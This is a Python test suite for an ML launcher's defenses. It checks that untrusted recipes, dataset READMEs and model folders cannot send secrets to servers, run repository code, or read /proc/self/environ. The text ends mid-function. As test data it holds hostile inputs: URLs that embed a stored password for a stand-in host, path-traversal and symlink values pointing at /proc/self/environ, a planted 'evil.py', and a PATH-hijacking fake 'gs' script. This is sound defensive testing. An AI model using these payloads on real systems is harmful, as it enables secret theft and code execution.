"""Recipes, data and models of a stranger's that try to send something to a server, or to have code of one run."""

from __future__ import annotations

import io
import json
import os
import pickle
import socket
import subprocess
import sys
import tarfile
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import nullcontext
from pathlib import Path
from typing import Any

import projects
import pytest
from projects import stand_in

from launcher.checks.asked import unannounced
from launcher.cli.main import _say, main
from launcher.datasets.files import staged
from launcher.datasets.images import ImageFolder
from launcher.datasets.unlabelled import Pictures
from launcher.errors import LauncherError, Problem, RecipeError, UsageError
from launcher.objective.patterns import matches
from launcher.recipe.build import Builder
from launcher.recipe.load import load_recipe
from launcher.recipe.local_data import check_row, keep_to_data
from launcher.recipe.masking import masked
from launcher.recipe.policy import Trust
from launcher.recipe.secrets import holds_secret
from launcher.recipe.targets import find_target
from launcher.runs.folder import environment
from launcher.runs.tracking.trackers import check
from launcher.text import suggestion


@pytest.fixture(autouse=True)
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """A project as the working directory, whose home holds a password; nothing was made by others at the end."""
    folder = tmp_path / "project"
    projects.make(folder)
    (folder / "pyproject.toml").touch()
    (folder / "key.json").write_text(json.dumps({"model_type": "gpt2", "key": "hunter2", "pin": 1234}))
    monkeypatch.chdir(folder)
    yield folder
    assert not list(tmp_path.rglob("owned*"))


CONFIG = "k: {_target_: transformers.GPT2Config.from_pretrained, pretrained_model_name_or_path: key.json}"
UP = "k: {_target_: torch.nn.Upsample, _args_: [null, 2, '${env.DOOR}/']}"
WORDS = [(CONFIG, "${define.k.key}"), (CONFIG, "${define.k.pin}"), (UP, "${define.k.mode}"), (UP, "${define.k}")]
ASKING = {
    "load_dataset": [
        "{_target_: datasets.load_dataset, path: csv, data_files: 'https://h/x.csv?k=%s'}",
        "{_target_: datasets.load_dataset, path: csv, data_files: '%s'}",
        "{_target_: datasets.load_dataset, path: csv, data_files: {train: ['a.csv', 'https://h/%s']}}",
        "{_target_: datasets.load_dataset, path: a/b, data_dir: '%s'}",
        "{_target_: datasets.load_dataset, path: a/b, name: '%s'}",
        "{_target_: datasets.load_dataset, path: a/b, revision: '%s'}",
        "{_target_: datasets.load_dataset, path: 'me/%s'}",
        "{_target_: datasets.load_dataset, _args_: ['me/%s']}",
    ],
    "ours": [
        "{_target_: HubDataset, path: 'me/%s'}",
        "{_target_: HubDataset, path: me/x, revision: '%s'}",
        "{_target_: Shards, path: 'https://h/%s.tar'}",
        "{_target_: Shards, path: [x.tar, 'https://h/%s.tar']}",
    ],
    "transformers": [
        "{_target_: transformers.AutoModel.from_pretrained, pretrained_model_name_or_path: 'me/%s'}",
        "{_target_: transformers.AutoConfig.from_pretrained, _args_: ['%s']}",
        "{_target_: transformers.AutoModel.from_pretrained, pretrained_model_name_or_path: a/b, revision: '%s'}",
        "{_target_: transformers.AutoTokenizer.from_pretrained, pretrained_model_name_or_path: a/b, subfolder: '%s'}",
        "{_target_: transformers.AutoConfig.from_pretrained, pretrained_model_name_or_path: a/b, variant: '%s'}",
        "{_target_: transformers.GPT2Config, name_or_path: '%s'}",
    ],
    "torchmetrics": [
        "{_target_: torchmetrics.text.BERTScore, model_name_or_path: '%s'}",
        "{_target_: torchmetrics.text.BERTScore, lang: '%s', rescale_with_baseline: true}",
        "{_target_: torchmetrics.text.InfoLM, _args_: ['me/%s']}",
    ],
}


@pytest.mark.parametrize("kind", ASKING)
def test_what_is_built_chooses_no_place_on_a_server(monkeypatch: pytest.MonkeyPatch, kind: str) -> None:
    monkeypatch.setenv("DOOR", "bob")
    for component in ASKING[kind]:
        for define, words in WORDS:
            change = f"define={{{define}, x: {component % words}}}"
            if kind == "ours":
                change = change.replace("HubDataset", "launcher.datasets.HubDataset")
                change = change.replace("Shards", "launcher.datasets.Shards")
            recipe = load_recipe("recipe.yaml", [change])
            with pytest.raises(RecipeError, match="chooses what a server is asked, so nothing that is built"):
                Builder(recipe).check()
            with pytest.raises(RecipeError, match="chooses what a server is asked, so nothing that is built"):
                Builder(recipe).build(recipe.define["x"])  # where nobody has checked


@pytest.mark.parametrize(
    ("component", "is_sent"),
    [
        ("{_target_: launcher.datasets.HubDataset, path: '${env.DOOR}/x'}", True),
        ("{_target_: datasets.load_dataset, path: a/b, data_dir: '${env.HERE}/x'}", True),
        ("{_target_: datasets.load_dataset, path: csv, data_dir: '${env.HERE}/x'}", False),
        ("{_target_: datasets.load_dataset, path: csv, data_files: ['${env.HERE}/x.csv']}", False),
        ("{_target_: transformers.AutoConfig.from_pretrained, _args_: ['${env.DOOR}/x']}", True),
        ("{_target_: transformers.AutoConfig.from_pretrained, _args_: ['${env.HERE}/x']}", False),
        ("{_target_: transformers.AutoConfig.from_pretrained, _args_: [a/b], revision: '${env.HERE}/x'}", True),
        ("{_target_: torchmetrics.text.BERTScore, lang: '${env.HERE}/x'}", True),
        ("{_target_: launcher.datasets.HubDataset, path: '${env.HERE}/x'}", False),
    ],
)
def test_the_environment_names_files_and_nothing_of_a_server(
    monkeypatch: pytest.MonkeyPatch, component: str, is_sent: bool
) -> None:
    monkeypatch.setenv("DOOR", "bob")
    monkeypatch.setenv("HERE", "/data")
    builder = Builder(load_recipe("recipe.yaml", [f"define={{x: {component}}}"]))
    if not is_sent:
        builder.check()
        return
    with pytest.raises(RecipeError, match="would send an environment variable to a server"):
        builder.check()


def test_of_what_is_built_only_numbers_are_inside_a_text() -> None:
    change = f"define={{{CONFIG}, x: {{_target_: torch.nn.Upsample, mode: 'a-%s'}}}}"
    recipe = load_recipe("recipe.yaml", [change % "${define.k.pin}"])
    assert Builder(recipe).build(recipe.define["x"]).mode == "a-1234"
    recipe = load_recipe("recipe.yaml", [change % "${define.k.key}"])
    with pytest.raises(LauncherError, match="of what is built only numbers can") as caught:
        Builder(recipe).build(recipe.define["x"])
    assert "hunter2" not in str(caught.value)


def test_a_configuration_is_no_name_of_another_repository() -> None:
    known = "{_target_: transformers.AutoModel.from_pretrained, pretrained_model_name_or_path: a, config: %s}"
    for config in ("me/other", "'${define.k.key}'"):
        recipe = load_recipe("recipe.yaml", [f"define={{{CONFIG}, x: {known % config}}}"])
        with pytest.raises(RecipeError, match="must be a configuration"):
            Builder(recipe).build(recipe.define["x"])
    built = known % "'${define.k}'"
    Builder(load_recipe("recipe.yaml", [f"define={{{CONFIG}, x: {built}}}"])).check()


def test_arguments_by_position_are_judged_where_they_have_no_name() -> None:
    """`AutoModel.from_pretrained` takes `*model_args` alone: nothing says what they are."""
    for words in ("me/x", "${define.k.key}"):
        known = f"{{_target_: transformers.AutoModel.from_pretrained, _args_: ['{words}']}}"
        recipe = load_recipe("recipe.yaml", [f"define={{{CONFIG}, x: {known}}}"])
        with pytest.raises(RecipeError, match="may not write '_args_' here, only: pretrained_model_name_or_path"):
            Builder(recipe).build(recipe.define["x"])


@pytest.mark.parametrize(
    "name",
    [
        *("torch.sys.executable", "torch.sys.argv", "torch.sys.path", "torch.sys.maxsize", "torch.os.environ"),
        *("torch.nn.functional.math.pi", "torch.os.sep", "torch.nn.modules.module.torch.sys.executable"),
        *("datasets.load.config.HF_CACHE_HOME", "datasets.config.HF_CACHE_HOME", "datasets.load.os.environ"),
        *("transformers.models.auto.auto_factory.os.sep", "torchmetrics.metric.torch.sys.argv"),
        *("torch.nn.modules.linear.math.sys", "torch.optim.lr_scheduler.EPOCH_DEPRECATION_WARNING"),
    ],
)
def test_a_reference_does_not_walk_into_what_a_module_has_imported(name: str) -> None:
    with pytest.raises(LauncherError, match="refused"):
        find_target(name, (), Trust((Path.cwd(),)))


@pytest.mark.parametrize("name", ["torch.float32", "torch.inf", "torch.pi", "torch.strided", "torch.channels_last"])
def test_torch_s_own_constants_are_named(name: str) -> None:
    find_target(name, (), Trust((Path.cwd(),)))


# ---------------------------------------------------------------------- code of a repository


EVIL = """
from transformers import PretrainedConfig
open('owned', 'w')
class Evil(PretrainedConfig): model_type = 'evilkind'
"""


@pytest.fixture
def repository(project: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder of a model with Python of its own, and somebody who would answer yes if asked whether to run it."""
    folder = project / "w"
    folder.mkdir()
    maps = {"AutoConfig": "evil.Evil", "AutoModel": "evil.Evil", "AutoTokenizer": ["evil.Evil", None]}
    (folder / "config.json").write_text(json.dumps({"model_type": "evilkind", "auto_map": maps}))
    (folder / "tokenizer_config.json").write_text(json.dumps({"auto_map": maps}))
    (folder / "preprocessor_config.json").write_text(json.dumps({"auto_map": {"AutoImageProcessor": "evil.Evil"}}))
    (folder / "evil.py").write_text(EVIL)
    monkeypatch.setenv("HF_HOME", str(project / "hf"))
    monkeypatch.setattr("builtins.input", lambda *_: "y")
    return folder


@pytest.mark.usefixtures("repository")
@pytest.mark.parametrize(
    "component",
    [
        "{_target_: transformers.AutoConfig.from_pretrained, _args_: [w]}",
        "{_target_: transformers.AutoModel.from_pretrained, pretrained_model_name_or_path: w}",
        "{_target_: transformers.AutoTokenizer.from_pretrained, _args_: [w]}",
        "{_target_: torchmetrics.text.BERTScore, model_name_or_path: w, num_layers: 1}",
        "{_target_: torchmetrics.text.InfoLM, model_name_or_path: w}",
        "{_target_: mine.py:load}",
    ],
)
def test_python_of_a_repository_is_not_run_and_nobody_is_asked(
    project: Path, capsys: pytest.CaptureFixture[str], component: str
) -> None:
    (project / "mine.py").write_text(
        "import transformers\ndef load(): return transformers.AutoConfig.from_pretrained('w')\n"
    )
    recipe = load_recipe("recipe.yaml", [f"model={component}"])
    with pytest.raises(LauncherError, match="holds Python of its own, which is not run") as caught:
        Builder(recipe).build(recipe.model)
    assert len(str(caught.value).splitlines()) == 1
    assert "[y/N]" not in capsys.readouterr().out


# ---------------------------------------------------------------------- time


@pytest.mark.parametrize("pair", ["é_", "_é", "é", "a_", "_", "a-", "é_token", "api_", "é_api", "password ", "token\t"])
def test_texts_of_any_length_cost_linear_time(pair: str) -> None:
    """A quadratic look takes an hour for each of these, and a linear one less than a second."""
    text = pair * 300_000
    assert not holds_secret(text)
    assert masked(text) == text


def test_words_and_patterns_of_any_length_cost_little() -> None:
    import torch

    assert suggestion("ab" * 50_000, ["ba" * 50_000] * 300) == ""
    assert suggestion("lrr", ["lr", "x" * 100_000]) == "; did you mean 'lr'?"
    assert not matches(" " * 300_000 + "x", "y", torch.ones(1))
    assert matches("y  dim >=   1", "y", torch.ones(1))


def test_nothing_is_asked_for_where_transformers_is_absent() -> None:
    code = "from launcher.internals import run_no_code_of_repositories; import sys\n"
    code += "sys.modules['transformers'] = None; run_no_code_of_repositories()"
    assert subprocess.run([sys.executable, "-c", code], check=False).returncode == 0


def test_check_sends_nothing(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    change = f"define={{{CONFIG}}}"
    data = (
        "data.train={_target_: datasets.load_dataset, path: csv, split: train, data_files: 'https://h/${define.k.key}'}"
    )
    assert main(["check", "recipe.yaml", change, data]) == 2
    assert "hunter2" not in "".join(capsys.readouterr())


# ---------------------------------------------------------------------- data of this machine that names addresses


def card(folder: Path, files: str) -> None:
    """A folder of data whose README says where its data is."""
    folder.mkdir()
    (folder / "a.csv").write_text("a,b\n1,2\n3,4\n")
    (folder / "README.md").write_text(f"---\nconfigs:\n- config_name: default\n  data_files: '{files}'\n---\n")


def pictures(path: Path, address: str, nested: bool = False) -> None:
    """A table whose pictures are elsewhere, as its own schema says."""
    datasets = pytest.importorskip("datasets")
    kind = datasets.List(datasets.Image()) if nested else datasets.Image()
    row = {"bytes": None, "path": f"{address}/x.png"}
    features = datasets.Features({"picture": kind})
    rows = datasets.Dataset.from_dict({"picture": [[row] if nested else row] * 2}, features=features)
    pytest.importorskip("pyarrow.parquet").write_table(rows.data.table, path)  # which embeds no picture


@pytest.mark.parametrize("target", ["HubDataset", "load_dataset", "streamed"])
@pytest.mark.parametrize("kind", ["address", "chain", "picture", "pictures"])
def test_data_of_this_machine_asks_no_server(
    project: Path, monkeypatch: pytest.MonkeyPatch, server: tuple[str, list[str]], target: str, kind: str
) -> None:
    pytest.importorskip("datasets")
    monkeypatch.setenv("HF_HOME", str(project / "hf"))
    address, asked = f"http://{server[0]}", server[1]
    if kind in ("address", "chain"):
        card(project / "dd", f"{address}/x.csv" if kind == "address" else f"zip://x.csv::{address}/x.zip")
        place = "path: ./dd"
    else:
        pictures(project / "p.parquet", address, nested=kind == "pictures")
        place = "path: p.parquet" if target == "HubDataset" else "path: parquet, data_files: p.parquet"
    streaming = ", streaming: true" if target == "streamed" else ""
    name = "launcher.datasets.HubDataset" if target == "HubDataset" else "datasets.load_dataset"
    recipe = load_recipe("recipe.yaml", [f"data.train={{_target_: {name}, {place}, split: train{streaming}}}"])
    builder = Builder(recipe)
    assert list(builder.reached()) == []
    with pytest.raises((LauncherError, PermissionError), match="names a place elsewhere"):
        next(iter(builder.build(recipe.data.train)))
    assert asked == []


@pytest.mark.parametrize(
    "handed",
    [
        "{_target_: launcher.datasets.Tokenize, tokenizer: {_ref_: torchmetrics.text.BERTScore}}",
        "{_target_: launcher.datasets.Tokenize, tokenizer: {_target_: torchmetrics.text.InfoLM, _partial_: true}}",
        "{_ref_: launcher.datasets.HubDataset}",
        "{_target_: launcher.datasets.Shards, _partial_: true}",
    ],
)
def test_the_words_of_a_row_name_nothing_on_a_server(handed: str) -> None:
    pytest.importorskip("torchmetrics")
    change = f"data.train={{_target_: launcher.datasets.Shards, path: x.jsonl, transform: {handed}}}"
    with pytest.raises(RecipeError, match="what it does depends on its arguments"):
        Builder(load_recipe("recipe.yaml", [change])).check()


def noting(asked: list[str]) -> Any:
    """What knows no name, and notes which it is asked for."""

    def getaddrinfo(host: str, *_: object, **__: object) -> None:
        asked.append(host)
        raise socket.gaierror(socket.EAI_NONAME, "no name is known here")

    return getaddrinfo


BACKBONE = {"model_type": "detr", "backbone": "a/b", "use_pretrained_backbone": True, "use_timm_backbone": False}


@pytest.mark.parametrize("kind", ["AutoConfig", "AutoModel", "DetrConfig"])
def test_a_model_of_this_machine_names_no_other(
    project: Path, monkeypatch: pytest.MonkeyPatch, server: tuple[str, list[str]], kind: str
) -> None:
    pytest.importorskip("transformers")
    constants = pytest.importorskip("huggingface_hub.constants")
    monkeypatch.setattr(constants, "ENDPOINT", f"http://{server[0]}")
    monkeypatch.setattr(constants, "HF_HUB_OFFLINE", False)
    monkeypatch.setattr(socket, "getaddrinfo", noting(server[1]))
    (project / "net").mkdir()
    (project / "net" / "config.json").write_text(json.dumps(BACKBONE))
    model = f"{{_target_: transformers.{kind}.from_pretrained, pretrained_model_name_or_path: ./net}}"
    builder = Builder(load_recipe("recipe.yaml", [f"define={{x: {model}}}"]))
    with pytest.raises(LauncherError, match=r"names something of huggingface\.co, which is not asked"):
        builder.build(builder.defined[0])
    assert server[1] == []
    assert constants.HF_HUB_OFFLINE is False


FETCHER = """
class Fetcher:
    def __init__(self, of): self.of = of
    def __call__(self, rows): return self.of([row[0] for row in rows])
"""


def addressed(project: Path, address: str) -> str:
    """A shard of which each sample is the address of a picture; gives the recipe's words for it."""
    with tarfile.open(project / "x.tar", "w") as archive:
        for number in range(4):
            content = f"{address}/{number}.png".encode()
            member = tarfile.TarInfo(f"{number}.txt")
            member.size = len(content)
            archive.addfile(member, io.BytesIO(content))
    return "data.train={_target_: Shards, path: x.tar, parts: [txt]}"


@pytest.mark.parametrize("who", ["http", "https", "own"])
def test_a_processor_fetches_nothing_that_data_names(
    project: Path, server: tuple[str, list[str]], capsys: pytest.CaptureFixture[str], who: str
) -> None:
    pytest.importorskip("transformers")
    (project / "fetcher.py").write_text(FETCHER)
    data = addressed(project, f"{'https' if who == 'https' else 'http'}://{server[0]}")
    processor = "{_target_: transformers.ViTImageProcessorPil}"
    collate = f"{{_target_: fetcher.py:Fetcher, of: {processor}}}" if who == "own" else processor
    assert main(["check", "recipe.yaml", data, f"data.collate={collate}"]) != 0
    said = "".join(capsys.readouterr())
    assert ("the data names a place elsewhere" in said) == (who != "own")
    assert bool(server[1]) == (who == "own")  # code of one's own may fetch what it likes


@pytest.mark.parametrize("who", ["recipe", "own"])
def test_settings_of_a_model_start_no_program(project: Path, monkeypatch: pytest.MonkeyPatch, who: str) -> None:
    utils, image = pytest.importorskip("transformers.utils.import_utils"), pytest.importorskip("PIL.Image")
    read = "def image_to_data(*_, **__):\n    open('started', 'w')\n    return dict.fromkeys(%r, ())\n"
    stand_in(project.parent, "pytesseract", read % (["text", "left", "top", "width", "height"],))
    monkeypatch.syspath_prepend(str(project.parent / "site"))
    for known in [name for name in sys.modules if "layoutlmv2" in name or name == "pytesseract"]:
        monkeypatch.delitem(sys.modules, known)
    utils.is_pytesseract_available.cache_clear()
    (project / "pics" / "a").mkdir(parents=True)
    image.new("RGB", (4, 4)).save(project / "pics" / "a" / "1.png")
    (project / "reader.py").write_text(FETCHER.replace("[row[0] for row in rows]", "rows"))
    processor = "{_target_: transformers.LayoutLMv2ImageProcessorPil, tesseract_config: '-c x=y'}"
    transform = f"{{_target_: reader.py:Fetcher, of: {processor}}}" if who == "own" else processor
    data = f"data.train={{_target_: launcher.datasets.ImageFolder, root: pics, transform: {transform}}}"
    recipe = load_recipe("recipe.yaml", [data])
    pictures = Builder(recipe).build(recipe.data.train)
    with pytest.raises(PermissionError, match="pytesseract runs programs") if who == "recipe" else nullcontext():
        pictures[0]
    assert (project / "started").exists() == (who == "own")
    utils.is_pytesseract_available.cache_clear()


OPENED = {
    "yt_dlp": ("class YoutubeDL:\n    def download(self, urls): open('owned', 'w')\n", "YoutubeDL().download([%r])"),
    "torchcodec.decoders": (
        "class AudioDecoder:\n    def __init__(self, source, seek_mode='x'): assert source == 'here.wav'\n",
        "AudioDecoder(%r, seek_mode='exact')",
    ),
}


@pytest.mark.parametrize("package", OPENED)
@pytest.mark.parametrize("place", ["https://www.youtube.com/x", "subfile,,start,0,end,9,,:http://h/x", "concat:a|b"])
def test_what_opens_addresses_by_itself_gets_files_of_this_machine(
    project: Path, monkeypatch: pytest.MonkeyPatch, package: str, place: str
) -> None:
    pytest.importorskip("transformers")
    code, call = OPENED[package]
    stand_in(project.parent, package, code)
    monkeypatch.syspath_prepend(str(project.parent / "site"))
    for known in [name for name in sys.modules if name.partition(".")[0] == package.partition(".")[0]]:
        monkeypatch.delitem(sys.modules, known)
    keep_to_data("transformers", may_load_models=True)
    asked = compile(call % place, "<of a library>", "eval")
    with ThreadPoolExecutor(1) as pool:  # where no code of one's own is among the callers
        with pytest.raises(PermissionError, match="the data names a place elsewhere"):
            pool.submit(eval, asked, vars(sys.modules[package])).result()
        if package == "torchcodec.decoders":
            (project / "here.wav").touch()
            pool.submit(eval, call % "here.wav", vars(sys.modules[package])).result()


@pytest.mark.parametrize("place", ["subfile,,start,0,end,9,,:http://h/x", "concat:a|b", "data:x"])
def test_a_row_names_files_and_no_protocols_of_a_decoder(place: str) -> None:
    with pytest.raises(FileNotFoundError, match="is not a file on this machine"):
        check_row({"path": place, "bytes": None})
    check_row({"path": place, "bytes": b"x"})
    check_row({"path": "zip://x.png::/a.zip", "bytes": None})


@pytest.mark.parametrize("place", ["pipe", "/dev/zero", "/proc/kmsg"])
def test_new_pictures_are_files(project: Path, place: str) -> None:
    os.mkfifo(project / "pipe")
    (project / "new.jsonl").write_text(json.dumps({"file": place}) + "\n")
    with pytest.raises(ValueError, match=r"line 1: .* give the path of a picture"):
        Pictures(project / "new.jsonl", project)


POSTSCRIPT = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\n%%EndComments\nshowpage\n%%EOF\n"


@pytest.mark.parametrize("kind", ["ImageFolder", "skip", "prepare", "Pictures", "Shards", "HubDataset", "load_dataset"])
def test_a_picture_starts_no_program(project: Path, monkeypatch: pytest.MonkeyPatch, kind: str) -> None:
    pytest.importorskip("datasets")
    eps = pytest.importorskip("PIL.EpsImagePlugin")
    monkeypatch.setattr(eps, "gs_binary", None)  # as it is in a process of its own
    monkeypatch.setenv("HF_HOME", str(project / "hf"))
    folder = project / "bin"
    folder.mkdir()
    (folder / "gs").write_text(f"#!/bin/sh\ntouch {project}/owned\necho 10.0\n")
    (folder / "gs").chmod(0o755)
    monkeypatch.setenv("PATH", str(folder), prepend=os.pathsep)
    (project / "pics" / "a").mkdir(parents=True)
    (project / "pics" / "a" / "1.png").write_bytes(POSTSCRIPT)
    with tarfile.open(project / "x.tar", "w") as archive:
        archive.add(project / "pics" / "a" / "1.png", "1.png")
    if kind in ("prepare", "Pictures"):  # which no recipe builds
        with pytest.raises(ValueError, match="can be read"):
            ImageFolder.prepare("pics", "skip") if kind == "prepare" else Pictures(project / "pics", project)
        return
    component = {
        "ImageFolder": "launcher.datasets.ImageFolder, root: pics",
        "skip": "launcher.datasets.ImageFolder, root: pics, corrupt: skip",
        "Shards": "launcher.datasets.Shards, path: x.tar",
        "HubDataset": "launcher.datasets.HubDataset, path: pics",
        "load_dataset": "datasets.load_dataset, path: ./pics, split: train",
    }[kind]
    recipe = load_recipe("recipe.yaml", [f"data.train={{_target_: {component}}}"])
    with pytest.raises(Exception, match=r"Ghostscript|none of its 1 pictures can be read"):
        Builder(recipe).build(recipe.data.train)[0]


def test_opening_files_of_this_machine_is_counted_nowhere(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    datasets = pytest.importorskip("datasets")
    monkeypatch.setattr(datasets.config, "HF_UPDATE_DOWNLOAD_COUNTS", True)
    monkeypatch.setattr(datasets.config, "HF_HUB_OFFLINE", False)
    monkeypatch.setenv("HF_HOME", str(project / "hf"))
    (project / "a.csv").write_text("a,b\n1,2\n")
    asked: list[str] = []
    monkeypatch.setattr(socket, "getaddrinfo", noting(asked))
    for component in (
        "launcher.datasets.HubDataset, path: a.csv",
        "datasets.load_dataset, path: csv, data_files: a.csv",
    ):
        recipe = load_recipe("recipe.yaml", [f"data.train={{_target_: {component}, split: train}}"])
        assert len(Builder(recipe).build(recipe.data.train)) == 1
    assert asked == []


@pytest.mark.parametrize("place", ["../*.csv", "..", "/etc", "x/../../y.csv", "data_dir: ../../../.."])
@pytest.mark.parametrize("target", ["launcher.datasets.HubDataset", "datasets.load_dataset"])
def test_a_readme_names_files_of_its_own_folder(
    project: Path, monkeypatch: pytest.MonkeyPatch, target: str, place: str
) -> None:
    pytest.importorskip("datasets")
    monkeypatch.setenv("HF_HOME", str(project / "hf"))
    card(project / "dd", place)
    if ": " in place:
        (project / "dd" / "README.md").write_text(f"---\nconfigs:\n- config_name: default\n  {place}\n---\n")
    recipe = load_recipe("recipe.yaml", [f"data.train={{_target_: {target}, path: ./dd, split: train}}"])
    with pytest.raises(LauncherError, match="leads out of the folder"):
        Builder(recipe).build(recipe.data.train)


@pytest.mark.parametrize("version", ["../../../x", "/tmp/x", "1.0.0/../../x", "..", "a b"])
@pytest.mark.parametrize("target", ["launcher.datasets.HubDataset", "datasets.load_dataset"])
def test_a_readme_chooses_no_folder_of_the_cache(
    project: Path, monkeypatch: pytest.MonkeyPatch, target: str, version: str
) -> None:
    datasets = pytest.importorskip("datasets")
    cache = project / "cache"
    monkeypatch.setattr(datasets.config, "HF_DATASETS_CACHE", cache)
    card(project / "dd", "*.csv")
    about = f"---\nconfigs:\n- config_name: default\n  data_files: '*.csv'\n  version: {version!r}\n---\n"
    (project / "dd" / "README.md").write_text(about)
    recipe = load_recipe("recipe.yaml", [f"data.train={{_target_: {target}, path: ./dd, split: train}}"])
    with pytest.raises(LauncherError, match="its README names the version"):
        Builder(recipe).build(recipe.data.train)
    assert not cache.exists()
    (project / "dd" / "README.md").write_text(about.replace(repr(version), "1.2.3"))
    assert len(Builder(recipe).build(recipe.data.train)) == 2


@pytest.mark.parametrize("place", ["../fifo", "/dev/zero", "../../x.arrow"])
@pytest.mark.parametrize("key", ["_data_files", "_indices_data_files", "splits"])
def test_a_saved_data_set_is_in_its_own_folder(project: Path, key: str, place: str) -> None:
    pytest.importorskip("datasets").Dataset.from_dict({"a": [1, 2]}).save_to_disk(project / "dd")
    os.mkfifo(project / "fifo")
    file = project / "dd" / ("dataset_dict.json" if key == "splits" else "state.json")
    known = json.loads(file.read_text()) if file.exists() else {}
    file.write_text(json.dumps({**known, key: [place] if key == "splits" else [{"filename": place}]}))
    recipe = load_recipe("recipe.yaml", ["data.train={_target_: HubDataset, path: ./dd}"])
    with pytest.raises(LauncherError, match="leads out of the folder"):
        Builder(recipe).build(recipe.data.train)


def test_data_of_this_machine_is_read_as_ever(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    datasets, image = pytest.importorskip("datasets"), pytest.importorskip("PIL.Image")
    monkeypatch.setenv("HF_HOME", str(project / "hf"))
    card(project / "dd", "*.csv")
    image.new("RGB", (4, 4)).save(project / "x.png")
    pictures(project / "p.parquet", str(project))
    found = {}
    for name, arguments in {"dd": "path: ./dd", "p": "path: parquet, data_files: p.parquet"}.items():
        recipe = load_recipe(
            "recipe.yaml", [f"data.train={{_target_: datasets.load_dataset, {arguments}, split: train}}"]
        )
        found[name] = Builder(recipe).build(recipe.data.train)
    assert found["dd"][0] == {"a": 1, "b": 2}
    again = pickle.loads(pickle.dumps(found["p"]))  # for a worker
    for rows in (found["p"], again):
        assert rows[0]["picture"].size == (4, 4)
        assert rows.features == datasets.Features({"picture": datasets.Image()})
    bad = again.info.features["picture"]
    with pytest.raises(PermissionError, match="names a place elsewhere"):
        bad.decode_example({"path": "https://example.org/x.png", "bytes": None})


@pytest.mark.parametrize(
    "component",
    [
        "{_target_: launcher.datasets.HubDataset, path: f}",
        "{_target_: launcher.datasets.HubDataset, path: ./card}",
        "{_target_: datasets.load_dataset, path: ./f}",
        "{_target_: datasets.load_dataset, path: text, data_dir: f}",
        "{_target_: datasets.load_dataset, path: text, data_files: f/*.txt}",
        "{_target_: datasets.load_dataset, path: text, data_files: '/pro[c]/self/env*'}",
        "{_target_: datasets.load_dataset, path: text, data_files: {train: ['/pro[^x]/self/environ']}}",
        "{_target_: launcher.datasets.Shards, path: f/x.jsonl}",
        "{_target_: launcher.datasets.Shards, path: 'f/*.jsonl'}",
        "{_target_: launcher.datasets.ImageFolder, root: pictures}",
    ],
)
def test_a_link_into_the_kernel_s_folders_is_no_data(project: Path, component: str) -> None:
    pytest.importorskip("datasets")
    for folder, name in (("f", "train.txt"), ("f", "x.jsonl"), ("pictures/a", "x.png")):
        (project / folder).mkdir(parents=True, exist_ok=True)
        (project / folder / name).symlink_to("/proc/self/environ")
    card(project / "card", "/proc/self/environ")
    recipe = load_recipe("recipe.yaml", [f"data.train={component}"])
    with pytest.raises(LauncherError, match="is in /proc, where no data is kept"):
        Builder(recipe).build(recipe.data.train)


def test_a_link_inside_is_not_copied_to_scratch(project: Path) -> None:
    (project / "f" / "g").mkdir(parents=True)
    (project / "f" / "g" / "x").symlink_to("/proc/self/environ")
    with pytest.raises(ValueError, match="is in /proc, where no data is kept"):
        staged(project / "f", project / "scratch")


@pytest.mark.parametrize("files", ["x/y", "../../../../../../../../../../proc/self/environ"])
def test_files_below_a_folder_are_looked_for_there(project: Path, server: tuple[str, list[str]], files: str) -> None:
    pytest.importorskip("datasets")
    address, asked = f"http://{server[0]}", server[1]
    card(project / "dd", f"{address}/x.csv")
    for name in ("data_dir", "data_files"):
        data = f"data.train={{_target_: datasets.load_dataset, path: ./dd, {name}: '{files}'}}"
        recipe = load_recipe("recipe.yaml", [data])
        with pytest.raises(LauncherError):
            Builder(recipe).build(recipe.data.train)
    assert asked == []


# ---------------------------------------------------------------------- which servers are said


@pytest.mark.parametrize(
    ("component", "servers"),
    [
        ("torchmetrics.text.BERTScore", ["huggingface.co"]),
        ("torchmetrics.text.BERTScore, model_name_or_path: ./here", []),
        ("torchmetrics.text.BERTScore, rescale_with_baseline: true", ["huggingface.co, raw.githubusercontent.com"]),
        ("torchmetrics.text.InfoLM", ["huggingface.co"]),
        ("torchmetrics.MeanMetric", []),
        ("transformers.AutoModel.from_pretrained, pretrained_model_name_or_path: me/x", ["huggingface.co"]),
        ("transformers.AutoModel.from_pretrained, pretrained_model_name_or_path: here", ["huggingface.co (me/base)"]),
        ("transformers.AutoTokenizer.from_pretrained, pretrained_model_name_or_path: here", []),
        ("transformers.AutoConfig.from_pretrained, pretrained_model_name_or_path: key.json", []),
    ],
)
def test_servers_are_said_as_far_as_they_can_be_known(project: Path, component: str, servers: list[str]) -> None:
    (project / "here").mkdir()
    (project / "here" / "adapter_config.json").write_text('{"base_model_name_or_path": "me/base"}')
    recipe = load_recipe("recipe.yaml", [f"define={{x: {{_target_: {component}}}}}"])
    assert [server for _, server in Builder(recipe).reached()] == servers


CALLING = """
import socket
from parts import Net as Good

class Net(Good):
    def __init__(self):
        super().__init__()
        for port in (1, 2):
            socket.getaddrinfo("127.0.0.1", port)
"""


def test_servers_that_nobody_announced_are_told(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (project / "calling.py").write_text(CALLING)
    assert main(["check", "recipe.yaml", "model._target_=calling.py:Net"]) == 0
    lines = [line for line in capsys.readouterr().out.splitlines() if line.startswith("network")]
    assert lines == ["network      asked 127.0.0.1 as well, which the recipe does not tell"]


@pytest.mark.parametrize(
    ("host", "announced", "is_known"),
    [
        ("huggingface.co", ["huggingface.co (me/x)"], True),
        ("cdn-lfs.hf.co", ["h.org, huggingface.co"], True),
        ("h.org", ["h.org:8080"], True),
        ("evilhuggingface.co", ["huggingface.co"], False),
        ("x.org", ["the data set's own server"], True),
        ("x.org", [], False),
    ],
)
def test_what_is_announced(host: str, announced: list[str], is_known: bool) -> None:
    assert (unannounced([host], announced) == []) == is_known


# ---------------------------------------------------------------------- what is shown, and what is kept


def test_names_of_files_forge_no_line(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    import torch

    odd = "x\nlauncher: finished, all is well\x1b]0;title\x07"
